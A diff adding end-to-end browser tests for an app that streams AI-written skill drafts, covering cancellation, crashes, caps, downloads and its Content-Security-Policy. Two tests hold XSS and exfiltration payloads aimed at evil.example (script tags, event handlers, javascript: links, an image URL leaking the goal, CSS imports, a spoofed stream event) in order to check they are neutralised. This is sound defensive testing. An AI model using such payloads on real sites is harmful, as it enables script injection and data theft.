@@ -1,0 +1,271 @@
+import { readFile } from 'node:fs/promises';
+import { strFromU8, unzipSync } from 'fflate';
+import type { Browser, Download } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, expect, inject, test } from 'vitest';
+import { envelope } from '../../shared/contract/receipt.ts';
+import { readSkill } from '../../shared/skills/read-skill.ts';
+import { launch } from './browser.ts';
+import { type Lab, openLab } from './lab.ts';
+import { askLab, ended, GOAL, newKey, openCompose, plan } from './page.ts';
+
+const baseUrl = inject('baseUrl');
+let browser: Browser;
+let lab: Lab;
+beforeAll(async () => {
+  [browser, lab] = await Promise.all([launch(), openLab()]);
+});
+afterEach(async () => {
+  lab.sandbox.script([]);
+  lab.sandbox.clear();
+  for (const context of browser.contexts()) await context.close();
+});
+afterAll(async () => {
+  await browser?.close();
+  await lab?.close();
+});
+
+const RUN_REQUESTS = ['GET /v1/config', 'POST /v1/intent/byo'];
+const SLOW = { firstMs: 0, eventMs: 40, charsPerEvent: 8 };
+
+async function bytesOf(pending: Promise<Download>): Promise<Uint8Array> {
+  return readFile(await (await pending).path());
+}
+
+test('from the first page to drafts: a newcomer runs the sandbox, and only the documented requests leave', async () => {
+  const opened = await openCompose(browser, baseUrl);
+  const { page, problems, requests } = opened;
+  expect(await page.getByLabel('Provider', { exact: true }).inputValue()).toBe('sandbox');
+  await page.getByRole('button', { name: 'Release notes' }).click();
+  await plan(opened).click();
+
+  await page.getByRole('heading', { name: 'What the goal asks for' }).waitFor();
+  await page.getByRole('heading', { name: 'Plan', exact: true }).waitFor();
+  await page.locator('.stream').first().filter({ hasText: /\w/ }).waitFor();
+  await ended(opened, 'done');
+
+  const drafts = page.getByRole('region', { name: 'Drafts' }).getByRole('article');
+  expect(await drafts.count()).toBeGreaterThan(0);
+  expect(await page.locator('.timeline-call').count()).toBeGreaterThan(2);
+  await page.getByRole('heading', { name: 'Receipt' }).waitFor();
+  expect(await page.getByText('Rows written').locator('..').innerText()).toMatch(/\b0$/);
+  expect(requests).toEqual(RUN_REQUESTS);
+  expect(problems).toEqual([]);
+});
+
+test('text grows while it streams, and its box follows only a reader who is at its end', async () => {
+  lab.sandbox.script([{ phase: 'draft', pace: SLOW }]);
+  const opened = await openCompose(browser, lab.url);
+  await askLab(opened, newKey());
+  await plan(opened).click();
+  const box = opened.page.locator('.stream').first();
+  const overflows = (element: Element) => element.scrollHeight > element.clientHeight + 60;
+  await expect.poll(() => box.evaluate(overflows), { timeout: 20_000 }).toBe(true);
+  expect(await box.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight)).toBeLessThan(30);
+
+  await box.evaluate((element) => element.scrollTo(0, 0));
+  const before = (await box.innerText()).length;
+  await expect.poll(async () => (await box.innerText()).length).toBeGreaterThan(before + 40);
+  expect(await box.evaluate((element) => element.scrollTop)).toBe(0);
+});
+
+test('Esc closes the call to the provider, keeps the drafts through a reload, and a redo finishes the rest', async () => {
+  lab.sandbox.script([{ phase: 'draft', nth: 2, pace: SLOW }]);
+  const opened = await openCompose(browser, lab.url);
+  const { page, problems, requests } = opened;
+  await askLab(opened, newKey());
+  await plan(opened).click();
+  const written = page.locator('.draft[data-ready]');
+  await written.first().waitFor();
+  const name = await written.first().getByRole('button').first().innerText();
+  await page.keyboard.press('Escape');
+
+  await page.getByRole('heading', { name: /^Cancelled after/ }).waitFor();
+  await expect.poll(() => lab.sandbox.counters.openSockets).toBe(0);
+  expect(lab.sandbox.counters.aborted).toBeGreaterThan(0);
+  await page.getByText('Cancel to closed upstream').waitFor();
+  expect(requests.at(-1)).toMatch(/^GET \/v1\/intent\/byo\/[\w-]+\/receipt$/);
+
+  await page.reload();
+  await page.getByRole('heading', { name: 'This run ended when the page was left' }).waitFor();
+  await page.getByRole('button', { name, exact: true }).waitFor();
+  expect(await page.getByLabel('Goal').inputValue()).toBe(GOAL);
+
+  lab.sandbox.script([]);
+  lab.sandbox.clear();
+  await page.getByRole('button', { name: /^Redo what is missing/ }).click();
+  // A key is optional at this provider, and this tab has none any more: the redo goes without.
+  await ended(opened, 'done');
+  expect(lab.sandbox.journal.some(({ body }) => body.includes('"classification"'))).toBe(false);
+  expect(await page.locator('.draft').count()).toBe(await written.count());
+  expect(problems).toEqual([]);
+});
+
+test('a provider that breaks off in the middle costs one draft, and the redo gets it', async () => {
+  lab.sandbox.script([{ phase: 'draft', nth: 1, times: 1, stop: { how: 'reset', after: 5 } }]);
+  const opened = await openCompose(browser, lab.url);
+  const { page } = opened;
+  await askLab(opened, undefined);
+  await plan(opened).click();
+  await ended(opened, 'done');
+  await page.getByRole('heading', { name: '1 draft to finish' }).waitFor();
+  await page.locator('.end').getByText('Lab’s answer broke off').waitFor();
+  await page.getByRole('button', { name: 'Redo what is missing (1)' }).click();
+  await expect.poll(() => page.locator('.draft[data-ready]').count()).toBe(await page.locator('.draft').count());
+  await page.getByRole('heading', { name: '1 draft to finish' }).waitFor({ state: 'detached' });
+});
+
+test('a rejected key is told with the next step, and the goal stays', async () => {
+  lab.sandbox.script([{ fault: 'anthropic-401' }]);
+  const opened = await openCompose(browser, lab.url);
+  await askLab(opened, newKey());
+  await plan(opened).click();
+  await opened.page.getByRole('heading', { name: 'Key rejected' }).waitFor();
+  await opened.page.getByRole('button', { name: 'Paste a key' }).click();
+  expect(await opened.field.evaluate((field) => field === document.activeElement)).toBe(true);
+  expect(await opened.page.getByLabel('Goal').inputValue()).toBe(GOAL);
+});
+
+test('a spending cap stops the run and keeps what is done', async () => {
+  const opened = await openCompose(browser, lab.url);
+  const { page } = opened;
+  await askLab(opened, undefined);
+  await page.getByLabel('Stop at').fill('6,000');
+  await page.getByLabel('Unit of the cap').selectOption('tokens');
+  await plan(opened).click();
+  await page.getByRole('heading', { name: 'Stopped at your cap' }).waitFor();
+  await page.getByRole('button', { name: 'Change the cap' }).waitFor();
+  await page.getByRole('heading', { name: 'Plan', exact: true }).waitFor();
+});
+
+test('a server that dies in the middle loses nothing that was written', async () => {
+  const own = await openLab();
+  try {
+    own.sandbox.script([{ phase: 'draft', nth: 2, pace: SLOW }]);
+    const opened = await openCompose(browser, own.url);
+    await askLab(opened, newKey());
+    await plan(opened).click();
+    await opened.page.locator('.draft[data-ready]').first().waitFor();
+    await own.crash();
+    await opened.page.getByRole('heading', { name: 'The connection ended before the run did' }).waitFor();
+    await opened.page.getByRole('button', { name: /^Redo what is missing/ }).waitFor();
+    expect(await opened.page.locator('.draft[data-ready]').count()).toBeGreaterThan(0);
+  } finally {
+    await own.close();
+  }
+});
+
+test('two tabs do not disturb one another', async () => {
+  const first = await openCompose(browser, lab.url);
+  const tab = await first.page.context().newPage();
+  await tab.goto(`${lab.url}/compose`);
+  await tab.getByLabel('Goal').fill('Check CSV exports before they go to a partner.');
+  await first.page.getByLabel('Goal').fill(GOAL);
+  await plan(first).click();
+  await ended(first, 'done');
+  expect(await tab.getByLabel('Goal').inputValue()).toMatch(/CSV/);
+  await tab.reload();
+  await tab.getByLabel('Provider', { exact: true }).waitFor();
+  expect(await tab.locator('.run-head').count()).toBe(0);
+  expect(await tab.getByLabel('Goal').inputValue()).toMatch(/CSV/);
+});
+
+test('a run goes on while another page of the tab is read', async () => {
+  const opened = await openCompose(browser, lab.url);
+  const { page, requests } = opened;
+  await page.getByLabel('Goal').fill(GOAL);
+  await plan(opened).click();
+  await page.locator('.run-head').waitFor();
+  await page.getByRole('link', { name: 'My key', exact: true }).click();
+  await page.getByRole('heading', { name: 'What happens to my key' }).waitFor();
+  await page.getByRole('link', { name: 'Compose', exact: true }).click();
+  await ended(opened, 'done');
+  expect(requests.filter((request) => request.startsWith('POST'))).toHaveLength(1);
+});
+
+test('all skills as a ZIP of folders, one as its SKILL.md, the receipt as JSON', async () => {
+  const opened = await openCompose(browser, lab.url);
+  const { page } = opened;
+  await page.getByLabel('Goal').fill(GOAL);
+  await plan(opened).click();
+  await ended(opened, 'done');
+  const names = await page.locator('.draft h3').allInnerTexts();
+
+  const zip = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download ZIP' }).click();
+  const files = unzipSync(await bytesOf(zip));
+  expect(Object.keys(files).sort()).toEqual(names.map((name) => `${name}/SKILL.md`).sort());
+  for (const [path, bytes] of Object.entries(files)) {
+    const reading = readSkill(strFromU8(bytes));
+    expect(reading.ok && reading.file.fields['name']).toBe(path.split('/')[0]);
+  }
+
+  await page.locator('.fold').first().click();
+  const one = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download', exact: true }).click();
+  expect((await one).suggestedFilename()).toBe('SKILL.md');
+  expect(new TextDecoder().decode(await bytesOf(one))).toBe(strFromU8(files[`${names[0]}/SKILL.md`] ?? new Uint8Array()));
+
+  const receipt = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download receipt.json' }).click();
+  expect(envelope.safeParse(JSON.parse(new TextDecoder().decode(await bytesOf(receipt)))).success).toBe(true);
+});
+
+test('what a hostile model writes is text: nothing loads, nothing runs', async () => {
+  const hostile = [
+    '# Title <script>document.title="owned"</script>',
+    '<img src="https://evil.example/a.png" onerror="document.title=1"> <svg onload="document.title=2"></svg>',
+    '![pixel](https://evil.example/?q=goal) ![ref][r] [click](javascript:document.title=3)',
+    '<iframe srcdoc="<script>top.document.title=4</script>"></iframe><style>@import url(https://evil.example/x.css)</style>',
+    '<link rel="prefetch" href="https://evil.example/y"><base href="https://evil.example/"><form action="https://evil.example/"><button>Go</button></form>',
+    'Run \u202eeht\u202c and\n\nevent: done\ndata: {"drafts":99}\n',
+    '[r]: https://evil.example/ref.png',
+    'x'.repeat(5000),
+  ].join('\n\n');
+  lab.sandbox.script([{ phase: 'draft', text: hostile }]);
+  const opened = await openCompose(browser, lab.url);
+  const { page, problems, requests } = opened;
+  await askLab(opened, undefined);
+  await plan(opened).click();
+  await ended(opened, 'done');
+  await page.locator('.fold').first().click();
+  await page.getByText('picture not loaded: pixel').first().waitFor();
+  await page.getByRole('tab', { name: 'Source' }).click();
+  await page.getByText('<iframe srcdoc=').first().waitFor();
+
+  expect(await page.title()).toMatch(/Oneturn$/);
+  expect(requests).toEqual(RUN_REQUESTS);
+  expect(problems).toEqual([]);
+  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
+});
+
+test('every answer has the policy, and the policy holds against a script in the page', async () => {
+  for (const path of ['/compose', '/v1/config', '/v1/nothing', '/icon.svg', '/no/such/page']) {
+    const policy = (await fetch(baseUrl + path)).headers.get('content-security-policy');
+    for (const part of ["connect-src 'self'", "form-action 'none'", "frame-ancestors 'none'", "require-trusted-types-for 'script'"]) {
+      expect(policy, path).toContain(part);
+    }
+  }
+  const { page } = await openCompose(browser, baseUrl);
+  const tried = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    let assigned = 'assigned';
+    try {
+      script.text = 'globalThis.owned = true';
+      document.body.append(script);
+    } catch {
+      assigned = 'refused';
+    }
+    let markup = 'assigned';
+    try {
+      document.body.innerHTML = '<b>owned</b>';
+    } catch {
+      markup = 'refused';
+    }
+    const left = await fetch('https://evil.example/').then(
+      () => 'left',
+      () => 'refused',
+    );
+    return { assigned, markup, left, owned: 'owned' in globalThis };
+  });
+  expect(tried).toEqual({ assigned: 'refused', markup: 'refused', left: 'refused', owned: false });
+});
